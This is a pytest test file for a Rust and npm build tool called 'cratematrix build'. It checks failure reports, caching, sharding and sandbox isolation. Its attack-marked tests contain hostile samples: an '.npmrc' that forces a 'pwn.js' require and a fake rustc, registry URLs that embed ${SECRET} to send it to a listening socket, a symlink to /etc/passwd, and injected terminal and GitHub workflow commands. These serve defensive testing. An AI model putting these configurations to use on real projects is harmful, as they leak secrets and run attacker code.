"""`cratematrix build` on small crates that compile in a second, in real sandboxes."""

from __future__ import annotations

import io
import json
import os
import re
import signal
import socket
import subprocess
import tarfile
from itertools import islice
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import MakeRepository
from tests.support import COMMAND, NAPS, Ran, cratematrix, entry, git_repository, library, write_files

ADDON = 'echo "int napi_register_module_v1(void) { return 0; }" | cc -shared -x c - -o demo.linux-x64-gnu.node'


def build(top: Path, *words: str, **env: str) -> Ran:
    return cratematrix("build", *words, cwd=top, env=env)


def report(top: Path, name: str = "report.json") -> dict[str, dict[str, Any]]:
    return {crate["name"]: crate for crate in json.loads((top / "dist" / name).read_text())["crates"]}


def test_a_failed_crate_stops_no_other_and_says_where_it_failed(repository: MakeRepository) -> None:
    files = library("good", "pub fn one() -> u8 { 1 }") | library("bad", '\npub fn one() -> u8 { "1" }\n')
    top = repository([entry("bad", expected_minutes=9), entry("good")], files)
    ran = build(top, "--all", "--jobs", "1")
    assert ran.code == 1
    assert ran.out == ""
    assert "bad/src/lib.rs:2: mismatched types (E0308)" in ran.err
    assert ran.err.rstrip().endswith("error: 1 of 2 crates failed\n  fix: read dist/logs/bad.log")
    crates = report(top)
    assert crates["good"]["state"] == "built"
    assert crates["bad"]["failure"] == {
        "class": "permanent", "phase": "compile", "message": "mismatched types (E0308)",
        "file": "bad/src/lib.rs", "line": 2, "exit_code": 101,
    }  # fmt: skip
    assert "mismatched types" in (top / "dist/logs/bad.log").read_text()


def test_a_failing_test_is_a_failure_with_its_name(repository: MakeRepository) -> None:
    top = repository([entry("one")], library("one", "#[test]\nfn sums() {\n    assert_eq!(1 + 1, 3);\n}\n"))
    assert build(top, "--crate", "one").code == 1
    failure = report(top)["one"]["failure"]
    assert (failure["phase"], failure["message"]) == ("test", "1 test failed: sums")
    assert (failure["file"], failure["line"]) == ("one/src/lib.rs", 3)
    assert report(top)["one"]["tests"] == "failed"


def test_words_of_a_crate_do_not_change_the_class_of_its_failure(repository: MakeRepository) -> None:
    """The words are those of a machine without memory; nothing is tried again for them."""
    says = '#[test]\nfn t() { assert_eq!("out of memory", "Cannot allocate memory") }\n'
    top = repository([entry("one", size="small", retries=3)], library("one", says))
    assert build(top, "--all").code == 1
    crate = report(top)["one"]
    assert (crate["attempts"], crate["failure"]["class"]) == (1, "permanent")
    assert (crate["failure"]["message"], crate["failure"]["line"]) == ("1 test failed: t", 2)


OWN_HARNESS = '[[test]]\nname = "own"\nharness = false\n'


@pytest.mark.parametrize(
    ("lib", "more", "commands", "state"),
    [
        ("", {}, {}, "none"),
        ("#[test]\n#[ignore]\nfn later() {}\n", {}, {}, "none"),
        ("//! ~~~\n//! assert!(true);\n//! ~~~\n", {}, {}, "passed"),
        ("", {"one/Cargo.toml": OWN_HARNESS, "one/tests/own.rs": "fn main() {}\n"}, {}, "passed"),
        ("", {"one/Cargo.toml": "[lib]\ntest = false\ndoctest = false\n"}, {}, "none"),
        ("", {}, {"test": "cargo test --offline"}, "none"),
        ("", {}, {"test": "cargo test --offline && true"}, "passed"),
    ],
)
def test_tests_have_passed_only_if_one_ran(
    repository: MakeRepository, lib: str, more: dict[str, str], commands: dict[str, str], state: str
) -> None:
    files = library("one", lib, more.pop("one/Cargo.toml", "")) | more
    top = repository([entry("one", **({"commands": commands} if commands else {}))], files)
    assert build(top, "--all").code == 0
    crate = report(top)["one"]
    assert (crate["tests"], crate["units"][0]["tests"]["state"]) == (state, state)
    assert crate["units"][0]["tests"]["reason"] == ("no test ran" if state == "none" else None)


def test_a_build_script_that_panics_is_named_with_its_words_and_line(repository: MakeRepository) -> None:
    script = 'fn main() {\n    panic!("the file words.txt is missing");\n}\n'
    top = repository([entry("one")], library("one") | {"one/build.rs": script})
    assert build(top, "--all").code == 1
    failure = report(top)["one"]["failure"]
    words = "failed to run custom build command for `one v1.0.0 (one)`: the file words.txt is missing"
    assert (failure["message"], failure["file"], failure["line"]) == (words, "one/build.rs", 2)


def test_a_build_script_that_ends_with_an_error_is_named_with_its_last_line(repository: MakeRepository) -> None:
    script = 'fn main() {\n    println!("out");\n    eprintln!("first\\nno words");\n    std::process::exit(3);\n}\n'
    top = repository([entry("one")], library("one") | {"one/build.rs": script})
    assert build(top, "--all").code == 1
    assert report(top)["one"]["failure"]["message"].endswith("for `one v1.0.0 (one)`: no words")


def test_a_command_that_does_not_exist_is_named(repository: MakeRepository) -> None:
    top = repository([entry("one", commands={"test": "no-such-command --run"})], library("one"))
    assert build(top, "--all").code == 1
    message = report(top)["one"]["failure"]["message"]
    assert message == "running the tests needs the command no-such-command, which is not installed"


def test_a_test_that_wants_the_network_is_told_that_it_is_closed(repository: MakeRepository) -> None:
    asks = "node -e 'fetch(`https://data.example/x`).catch((error) => { console.error(error); process.exit(1) })'"
    top = repository([entry("one", commands={"test": asks})], library("one"))
    assert build(top, "--all").code == 1
    message = report(top)["one"]["failure"]["message"]
    assert message.endswith("; it asked for data.example, and the network is closed after dependencies are fetched")


def test_a_log_that_says_no_more_than_the_error_is_not_named(repository: MakeRepository) -> None:
    """The first crate's files are not tracked, and its message has the command; the second one's log has the error."""
    top = repository([entry("bad"), entry("new", expected_minutes=9)], library("bad", "pub fn one() -> u8 { true }\n"))
    write_files(top, library("new"))
    ran = build(top, "--all", "--jobs", "1")
    assert ran.err.rstrip().endswith("error: 2 of 2 crates failed\n  fix: read dist/logs/bad.log")
    ran = build(top, "--crate", "new")
    assert "git add new" in report(top)["new"]["failure"]["message"]
    assert ran.err.rstrip().endswith("error: 1 of 1 crate failed")


def test_the_package_has_the_built_program_and_not_that_of_the_tests(repository: MakeRepository) -> None:
    """Features of development dependencies make Cargo replace the program with another one."""
    says = 'fn main() { print!("{}", two::word()); }\n'
    depends = (
        '[dependencies]\ntwo = { path = "two" }\n[dev-dependencies]\ntwo = { path = "two", features = ["loud"] }\n'
    )
    files = library("one", rest=depends) | {"one/src/main.rs": says, "one/tests/a.rs": "#[test]\nfn a() {}\n"}
    files["one/two/Cargo.toml"] = (
        '[package]\nname = "two"\nversion = "1.0.0"\nedition = "2021"\n[features]\nloud = []\n'
    )
    files["one/two/src/lib.rs"] = (
        'pub fn word() -> &\'static str { if cfg!(feature = "loud") { "as-tested" } else { "as-built" } }\n'
    )
    files["one/Cargo.lock"] = (
        'version = 4\n\n[[package]]\nname = "one"\nversion = "1.0.0"\ndependencies = [\n "two",\n]\n\n'
        '[[package]]\nname = "two"\nversion = "1.0.0"\n'
    )
    top = repository([entry("one", kind="bin")], files)
    ran = build(top, "--all")
    assert ran.code == 0, ran.err
    with tarfile.open(top / "dist" / report(top)["one"]["package"]["file"]) as tar:
        program = tar.extractfile("package/bin/linux-x64-gnu/one")
        assert program is not None
        assert b"as-built" in program.read()


def test_tests_can_be_switched_off_for_one_crate(repository: MakeRepository) -> None:
    top = repository([entry("one", tests=False)], library("one", "#[test]\nfn no() { panic!() }\n"))
    assert build(top, "--all").code == 0
    assert report(top)["one"]["tests"] == "off"


def test_a_crate_is_reused_until_its_input_changes(repository: MakeRepository) -> None:
    top = repository([entry("one")], library("one"))
    build(top, "--all")
    assert report(top)["one"]["attempts"] == 1
    again = build(top, "--all")
    assert (again.code, report(top)["one"]["attempts"]) == (0, 0)
    assert "reused from the build cache" in again.err
    (top / "one/src/lib.rs").write_text("// changed\n")
    build(top, "--all")
    assert report(top)["one"]["attempts"] == 1


def test_a_build_for_other_platforms_of_the_fleet_is_not_reused(repository: MakeRepository) -> None:
    top = repository([entry("one")], library("one"))
    assert build(top, "--all").code == 0
    manifest = json.loads((top / "crates.json").read_text())
    manifest["fleet"]["platforms"] = ["linux-x64-gnu", "darwin-arm64"]
    (top / "crates.json").write_text(json.dumps(manifest))
    assert build(top, "--all").code == 0
    assert [unit["platform"] for unit in report(top)["one"]["units"]] == ["linux-x64-gnu", "darwin-arm64"]


@pytest.mark.attack("a package that was tampered with is built again")
def test_a_package_that_was_tampered_with_is_built_again(repository: MakeRepository) -> None:
    files = library("tool", rest='[[bin]]\nname = "tool"\npath = "src/main.rs"\n')
    top = repository([entry("tool", kind="bin")], files | {"tool/src/main.rs": "fn main() {}\n"})
    assert build(top, "--all").code == 0
    package = top / "dist" / report(top)["tool"]["package"]["file"]
    original = package.read_bytes()
    package.write_bytes(original[:-1])
    build(top, "--all")
    assert report(top)["tool"]["attempts"] == 1
    assert package.read_bytes() == original


def test_shards_write_reports_of_their_own_and_together_build_everything(repository: MakeRepository) -> None:
    top = repository([entry("one"), entry("two")], library("one") | library("two"))
    for index in ("1", "2"):
        assert build(top, "--shard", f"{index}/2").code == 0
    assert report(top, "report-1.json").keys() | report(top, "report-2.json").keys() == {"one", "two"}
    assert build(top, "--shard", "9/9").code == 0
    assert report(top, "report-9.json") == {}


def test_a_shard_of_named_crates_is_a_part_of_these_alone(repository: MakeRepository) -> None:
    names = ("one", "two", "three")
    top = repository([entry(name) for name in names], {k: v for name in names for k, v in library(name).items()})
    built: list[str] = []
    for index in ("1", "2"):
        assert build(top, "--shard", f"{index}/2", CRATEMATRIX_BUILD_CRATE="three one").code == 0
        built += report(top, f"report-{index}.json")
    assert built == ["one", "three"]
    assert build(top, "--shard", "2/2", "--crate", "two").code == 0
    assert report(top, "report-2.json") == {}


def test_a_build_that_takes_too_long_is_stopped_and_never_tried_again(repository: MakeRepository) -> None:
    loops = "#[test]\nfn waits() { std::thread::sleep(std::time::Duration::from_secs(3600)) }\n"
    top = repository([entry("one", timeout_minutes=0.1, retries=3)], library("one", loops))
    assert build(top, "--all").code == 1
    assert report(top)["one"]["failure"]["class"] == "too_slow"
    assert report(top)["one"]["attempts"] == 1


@pytest.mark.slow
def test_a_build_that_needs_more_memory_gets_the_next_size_once(repository: MakeRepository) -> None:
    """In the first size, told by its limit of 4 GiB, the memory is held until the test is killed for it."""
    first = 'std::fs::read_to_string("/proc/self/limits").unwrap().contains(" 4294967296 ")'
    hold = f"while {first} {{ std::thread::sleep(std::time::Duration::from_millis(50)) }}"
    hog = f"#[test]\nfn grows() {{ let all = vec![1u8; 3 << 30]; {hold}; std::hint::black_box(all); }}\n"
    top = repository([entry("one", size="small")], library("one", hog))
    assert build(top, "--all").code == 0
    crate = report(top)["one"]
    assert crate["attempts"] == 2
    assert crate["notes"][0].startswith("attempt 1 failed (too_small): ")
    assert crate["peak_memory"] > 2**31


@pytest.mark.slow
def test_a_package_that_needs_more_memory_to_load_is_built_again_from_a_clean_start(repository: MakeRepository) -> None:
    hungry = "exports.x = 1; process.kill(process.pid, 'SIGKILL');"
    top = repository([entry("demo", kind="napi", size="small", commands={"build": ADDON})], addon("index.js", hungry))
    assert build(top, "--all").code == 1
    crate = report(top)["demo"]
    assert (crate["attempts"], crate["failure"]["class"], crate["failure"]["phase"]) == (2, "too_small", "load")
    assert [phase["name"] for phase in crate["phases"]] == ["open", "fetch", "compile", "collect", "load"]


@pytest.mark.attack("only variables that the manifest names reach a crate")
def test_only_named_variables_reach_a_crate(repository: MakeRepository) -> None:
    script = 'fn main() { for (k, v) in std::env::vars() { println!("cargo:warning={k}={}", v.to_uppercase()); } }\n'
    top = repository([entry("one", env=["ALLOWED"])], library("one") | {"one/build.rs": script})
    ran = build(top, "--all", ALLOWED="yes-this", FORBIDDEN="not-this", GITHUB_TOKEN="not-this-either")
    assert ran.code == 0
    assert "ALLOWED=YES-THIS" in ran.err
    assert "NOT-THIS" not in ran.err
    assert "NOT-THIS" not in (top / "dist/logs/one.log").read_text()


@pytest.mark.attack("nothing that a crate prints is a command of the terminal or of GitHub")
def test_what_crates_print_reaches_neither_the_terminal_nor_the_runner_as_a_command(repository: MakeRepository) -> None:
    prints = '#[test]\nfn prints() { eprintln!("\\u{1b}[31mred ##[error]x\\n::error::y\\u{7}"); panic!() }\n'
    top = repository([entry("one")], library("one", prints))
    ran = build(top, "--all")
    assert "[one] ::error::y" in ran.err  # behind a name it is no command
    assert "\x1b" not in ran.err
    assert "\x07" not in ran.err
    assert "##[" not in ran.err
    assert not re.search(r"^\s*::", ran.err, re.MULTILINE)


def test_an_outdated_lock_file_is_an_error_and_stays_unchanged(repository: MakeRepository) -> None:
    top = repository([entry("one")], library("one", rest='[dependencies]\nitoa = "1"\n'))
    assert build(top, "--all").code == 1
    failure = report(top)["one"]["failure"]
    assert failure["message"] == "Cargo.lock does not hold all dependencies: run cargo update --workspace and commit it"
    assert failure["class"] == "permanent"


def test_a_version_that_differs_from_the_manifest_is_a_failure(repository: MakeRepository) -> None:
    top = repository([entry("one", version="2.0.0")], library("one"))
    assert build(top, "--all").code == 1
    assert report(top)["one"]["failure"]["message"] == 'one/Cargo.toml has version "1.0.0", the manifest 2.0.0'


def addon(main: str, loader: str, **scripts: str) -> dict[str, str]:
    package = {
        "name": "@demo/demo", "version": "1.0.0", "main": main, "napi": {"binaryName": "demo"},
        "scripts": {"postinstall": "touch /build/ran-postinstall", **scripts},
    }  # fmt: skip
    return library("demo") | {"demo/package.json": json.dumps(package), "demo/index.js": loader}


@pytest.mark.slow
@pytest.mark.parametrize(
    ("manager", "settings"),
    [("yarn@4.18.1", ".yarnrc.yml"), ("pnpm@10.34.8", "pnpm-workspace.yaml")],
    ids=["yarn", "pnpm"],
)
def test_an_addon_whose_crate_is_elsewhere_is_built_with_the_manager_of_its_workspace(
    repository: MakeRepository, manager: str, settings: str
) -> None:
    """The build needs a package of npm's registry."""
    package = {
        "name": "@demo/demo", "version": "1.0.0", "main": "index.js", "napi": {"binaryName": "demo"},
        "scripts": {"build": "sh build.sh", "postinstall": "touch /build/ran"}, "devDependencies": {"ms": "2.1.3"},
    }  # fmt: skip
    files = library("demo") | {
        "package.json": json.dumps({"private": True, "packageManager": manager, "workspaces": ["npm/*"]}),
        settings: "nodeLinker: node-modules\n" if "yarn" in settings else "packages:\n  - npm/*\n",
        "npm/demo/package.json": json.dumps(package),
        "npm/demo/index.js": "exports.x = 1",
        "npm/demo/build.sh": f"set -e\n[ ! -e /build/ran ]\nnode -p \"require('ms')('1s')\"\n{ADDON}\n",
    }
    source = {"path": "demo", "package": "npm/demo"}
    top = repository([entry("demo", kind="napi", source=source)], files)
    ran = build(top, "--all")
    assert ran.code == 0, ran.err
    name, version = manager.split("@")
    log = next((top / "dist").rglob("*.log")).read_text()
    assert f"note: {name} {version} installs its npm packages without a lock file" in log
    assert report(top)["demo"]["state"] == "built"


@pytest.mark.parametrize(
    ("main", "loader", "command", "phase", "message"),
    [
        (
            "dist/index.js",
            "",
            ADDON,
            "pack",
            "package.json names dist/index.js as its main, but the build did not create it",
        ),
        ("index.js", "require('./lost.js')", ADDON, "load", "Cannot find module './lost.js'"),
        ("index.js", "throw new Error('symbol not found')", ADDON, "load", "symbol not found"),
        ("index.js", "", ADDON, "load", "it exports nothing"),
        ("index.js", "exports.x = 1", "true", "collect", "the build made no artifact for linux-x64-gnu"),
        (
            "index.js",
            "exports.x = 1",
            "echo text > demo.linux-x64-gnu.node",
            "audit",
            "demo.linux-x64-gnu.node is not a linux-x64-gnu binary",
        ),
        ("index.js", "exports.x = 1", f"{ADDON}; ln -s /etc/passwd index.d.ts", "collect", None),
    ],
)
def test_a_package_that_nothing_built_or_that_does_not_load_is_a_failure(
    repository: MakeRepository, main: str, loader: str, command: str, phase: str, message: str | None
) -> None:
    top = repository([entry("demo", kind="napi", commands={"build": command})], addon(main, loader))
    ran = build(top, "--all")
    crate = report(top)["demo"]
    if message is None:
        # npm itself leaves a link out of the package; the rest is a package like any other.
        assert "index.d.ts" not in str(crate["package"])
        return
    assert ran.code == 1
    assert (crate["failure"]["phase"], crate["package"]) == (phase, None)
    assert message in crate["failure"]["message"]
    assert not list((top / "dist").glob("*.tgz"))


@pytest.mark.attack("nothing of a crate runs while the network is open")
def test_nothing_of_the_crate_runs_while_the_network_is_open(repository: MakeRepository) -> None:
    files = addon("index.js", "exports.x = 1")
    package = json.loads(files["demo/package.json"])
    package["dependencies"] = {"evil": "git+file:///build/source/demo/evil.git"}
    files |= {
        "demo/package.json": json.dumps(package),
        "demo/.npmrc": "node-options=--require=/build/source/demo/pwn.js\nignore-scripts=false\nscript-shell=/build/x\n",
        "demo/pwn.js": "console.error('PWNED')",
        "demo/.cargo/config.toml": "[build]\nrustc = '/build/source/demo/rustc'\n",
        "demo/rustc": "#!/bin/sh\necho PWNED >&2\n",
    }
    for name, text in {
        "HEAD": "ref: refs/heads/main",
        "config": "[core]\nbare = true",
        "refs/x": "",
        "objects/x": "",
    }.items():
        files[f"demo/evil.git/{name}"] = text
    top = repository([entry("demo", kind="napi", commands={"build": ADDON})], files)
    assert build(top, "--all").code == 1
    assert report(top)["demo"]["failure"]["phase"] == "fetch"
    assert "PWNED" not in (top / "dist/logs/demo.log").read_text()


@pytest.mark.attack("no variable is there to be sent away while the network is open")
def test_no_variable_is_there_to_be_sent_away_while_the_network_is_open(repository: MakeRepository) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        files = addon("index.js", "exports.x = 1") | {
            "demo/.npmrc": f"registry=http://127.0.0.1:{port}/${{SECRET}}/\n@evil:registry=http://127.0.0.1:{port}/${{HOME}}/\n"
        }
        package = json.loads(files["demo/package.json"])
        files["demo/package.json"] = json.dumps(package | {"dependencies": {"@evil/x": "1"}})
        top = repository([entry("demo", kind="napi", env=["SECRET"], commands={"build": ADDON})], files)
        ran = build(top, "--all", SECRET="s3cr3t-value")
        server.setblocking(False)
        with pytest.raises(BlockingIOError):
            server.accept()
    assert "s3cr3t-value" not in ran.err


@pytest.mark.attack("nothing that a crate prints is a command of the terminal or of GitHub")
def test_names_and_messages_of_crates_are_one_safe_line_wherever_they_are_shown(repository: MakeRepository) -> None:
    files = addon("lost\n::warning::W\x1b[31m\ud800.js", "") | library(
        "words", 'compile_error!("##[error]V1\\n::error::V2");\n'
    )
    top = repository([entry("demo", kind="napi", commands={"build": ADDON}), entry("words")], files)
    ran = build(top, "--all")
    assert ran.code == 1
    assert "##[" not in ran.err
    assert "\x1b" not in ran.err
    assert not re.search(r"^\s*::", ran.err, re.MULTILINE)
    assert "::warning::W" in report(top)["demo"]["failure"]["message"]


def test_a_reader_that_goes_away_does_not_stop_the_build(repository: MakeRepository) -> None:
    top = repository([entry("one")], library("one"))
    with subprocess.Popen([COMMAND, "build", "--all"], cwd=top, stderr=subprocess.PIPE) as runner:
        assert runner.stderr is not None
        runner.stderr.readline()
        runner.stderr.close()
        assert runner.wait() == 0
    assert report(top)["one"]["state"] == "built"


def test_documents_of_any_name_go_into_the_package(repository: MakeRepository) -> None:
    files = library("tool", rest='[[bin]]\nname = "tool"\npath = "src/main.rs"\n') | {
        "tool/src/main.rs": "fn main() {}\n", "tool/README (old).md": "old", "tool/LICENSES/MIT.txt": "MIT", "tool/LICENSE": "MIT",
    }  # fmt: skip
    top = repository([entry("tool", kind="bin")], files)
    assert build(top, "--all").code == 0
    with tarfile.open(top / "dist" / report(top)["tool"]["package"]["file"]) as tar:
        assert {"package/README (old).md", "package/LICENSE"} < set(tar.getnames())


def test_documents_are_in_the_package_however_a_crate_has_them(repository: MakeRepository) -> None:
    shared = '[workspace]\nmembers = ["tool"]\n[workspace.package]\nlicense-file = "legal/terms.txt"\n'
    named = 'license-file.workspace = true\nreadme = "../docs/intro.md"\n'
    files = {
        "Cargo.toml": shared, "Cargo.lock": 'version = 4\n\n[[package]]\nname = "tool"\nversion = "1.0.0"\n',
        "tool/Cargo.toml": f'[package]\nname = "tool"\nversion = "1.0.0"\nedition = "2021"\n{named}',
        "tool/src/main.rs": "fn main() {}\n", "tool/License.txt": "other terms", "tool/notice.md": "lower case", "tool/readme": "lower", "tool/README": "upper", "tool/README.md": "for readers of the code",
        "docs/intro.md": "for users", "legal/terms.txt": "terms", "COPYING": "linked", "secret": "of the repository",
    }  # fmt: skip
    top = repository([entry("tool", kind="bin", tests=False)], files)
    (top / "tool/COPYING").symlink_to("../COPYING")
    git_repository(top)
    ran = build(top, "--all")
    assert ran.code == 0, ran.err
    with tarfile.open(top / "dist/demo-tool-1.0.0.tgz") as tar:
        documents = {
            member.name.removeprefix("package/"): (tar.extractfile(member) or io.BytesIO()).read().decode()
            for member in tar
            if "/bin/" not in member.name and not member.name.endswith(".json")
        }
    assert documents == {
        "README.md": "for users", "LICENSE.txt": "terms", "notice.md": "lower case", "README": "upper", "COPYING": "linked",
    }  # fmt: skip


@pytest.mark.parametrize(
    ("files", "phase"),
    [
        ({"one/src/lib.rs": 'pub const TEXT: &str = include_str!("../../shared/text.md");\n'}, "compile"),
        ({"one/build.rs": 'fn main() { std::fs::read("../shared/text.md").expect("../shared/text.md is not found"); }\n'}, "compile"),
        ({"one/src/lib.rs": '#[test]\nfn reads() { std::fs::read("../shared/text.md").expect("no such file: ../shared/text.md"); }\n'}, "test"),
    ],
    ids=["a macro", "a build script", "a test"],
)  # fmt: skip
def test_a_file_that_is_left_out_is_named_and_the_key_include_brings_it(
    repository: MakeRepository, files: dict[str, str], phase: str
) -> None:
    top = repository([entry("one")], library("one") | files | {"shared/text.md": "text"})
    assert build(top, "--all").code == 1
    failure = report(top)["one"]["failure"]
    assert failure["phase"] == phase
    assert failure["message"].endswith(
        "; shared/text.md is in the repository and not in the crate's source: "
        'add "shared/text.md" to the list "include" of the crate in the manifest'
    )
    manifest = json.loads((top / "crates.json").read_text())
    manifest["crates"][0]["include"] = ["shared"]
    (top / "crates.json").write_text(json.dumps(manifest))
    assert build(top, "--all").code == 0, report(top)["one"]
    assert report(top)["one"]["attempts"] == 1
    (top / "shared/text.md").write_text("other text")
    assert build(top, "--all").code == 0
    assert report(top)["one"]["attempts"] == 1


@pytest.mark.attack("npm runs no script when it installs a package", entry="H2")
def test_a_package_carries_no_install_script(repository: MakeRepository) -> None:
    top = repository([entry("demo", kind="napi", commands={"build": ADDON})], addon("index.js", "exports.x = 1"))
    assert build(top, "--all").code == 0
    package = top / "dist" / report(top)["demo"]["package"]["file"]
    shown = subprocess.run(["tar", "-xzOf", package, "package/package.json"], capture_output=True, check=True)  # noqa: TID251
    assert "postinstall" not in shown.stdout.decode()


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM, signal.SIGHUP])
def test_a_signal_stops_everything_and_the_report_is_written(
    repository: MakeRepository, number: signal.Signals
) -> None:
    """Each running test would take an hour."""
    top = repository(
        [entry("one"), entry("two"), entry("zoo")], library("one", NAPS) | library("two", NAPS) | library("zoo")
    )
    words = [COMMAND, "build", "--all", "--jobs", "2"]
    with subprocess.Popen(words, cwd=top, stderr=subprocess.PIPE, text=True) as runner:
        assert runner.stderr is not None
        napping = (line for line in runner.stderr if "] napping" in line)
        assert len(list(islice(napping, 2))) == 2, "the runner ended by itself"
        runner.send_signal(number)
        said = runner.stderr.read()
        assert runner.wait() == 130
    assert "error: interrupted: finished crates are kept" in said
    assert {crate["state"] for crate in report(top).values()} == {"not_run"}
    assert not list((top / "dist").glob(".scratch*"))


def test_the_next_crate_starts_as_soon_as_any_sandbox_is_free(repository: MakeRepository) -> None:
    """All others are built while the tests of one crate take an hour."""
    crates = [entry("slow", expected_minutes=9), *(entry(f"quick{number}") for number in range(3))]
    files = library("slow", NAPS)
    for number in range(3):
        files |= library(f"quick{number}")
    top = repository(crates, files)
    words = [COMMAND, "build", "--all", "--jobs", "2"]
    with subprocess.Popen(words, cwd=top, stderr=subprocess.PIPE, text=True) as runner:
        assert runner.stderr is not None
        built = (line for line in runner.stderr if "] == built" in line)
        assert len(list(islice(built, 3))) == 3, "the runner ended by itself"
        runner.send_signal(signal.SIGINT)
        runner.stderr.read()
    states = {name: crate["state"] for name, crate in report(top).items()}
    assert states == {"slow": "not_run"} | {f"quick{number}": "built" for number in range(3)}


@pytest.mark.parametrize(
    ("words", "message"),
    [
        ((), "choose crates: --shard I/N, --crate NAME or both, or --all"),
        (("--all", "--crate", "one"), "choose crates: --shard I/N, --crate NAME or both, or --all"),
        (("--all", "--shard", "1/1"), "choose crates: --shard I/N, --crate NAME or both, or --all"),
        (("--shard", "1/1", "--crate", "one", "--crate", "two"), "the manifest has no crate two"),
        (("--crate", "two"), "the manifest has no crate two"),
        (("--shard", "3/2"), "shard 3/2 does not exist"),
        (("--shard", "x"), "'x' is not a shard: write I/N, such as 1/30"),
        (("--all", "--out", "crates.json"), "crates.json"),
    ],
)
def test_a_choice_that_cannot_be_built_is_an_input_error(
    repository: MakeRepository, words: tuple[str, ...], message: str
) -> None:
    top = repository([entry("one")], library("one"))
    ran = build(top, *words)
    assert (ran.code, message in ran.err) == (2, True)
    assert "Traceback" not in ran.err
    assert not (top / "dist").exists()


def test_without_a_toolchain_a_sentence_says_how_to_get_one(repository: MakeRepository, tmp_path: Path) -> None:
    top = repository([entry("one")], library("one"))
    tools = write_files(tmp_path / "bin", {})
    tools.mkdir(exist_ok=True)
    for name in ("git", "bwrap", "cc"):
        for folder in os.environ["PATH"].split(":"):
            if (Path(folder) / name).exists():
                (tools / name).symlink_to(Path(folder) / name)
                break
    ran = build(top, "--all", PATH=str(tools), HOME=str(tmp_path))
    assert ran.code == 2
    assert "rustup" in ran.err
    assert "nodejs.org" in ran.err


def test_a_build_without_isolation_says_so_in_its_report(repository: MakeRepository) -> None:
    top = repository([entry("one")], library("one"))
    assert build(top, "--all", "--no-isolation").code == 0
    assert json.loads((top / "dist/report.json").read_text())["isolated"] is False
